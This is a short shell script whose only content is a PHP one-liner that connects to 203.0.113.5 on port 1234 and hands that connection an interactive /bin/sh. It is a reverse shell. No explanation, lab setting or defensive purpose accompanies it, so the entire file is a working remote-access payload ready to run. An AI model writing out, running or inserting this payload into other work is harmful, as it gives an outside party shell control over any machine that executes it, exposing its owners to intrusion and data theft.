#!/bin/sh
php -r '$sock=fsockopen("203.0.113.5",1234);exec("/bin/sh -i <&3 >&3 2>&3");'
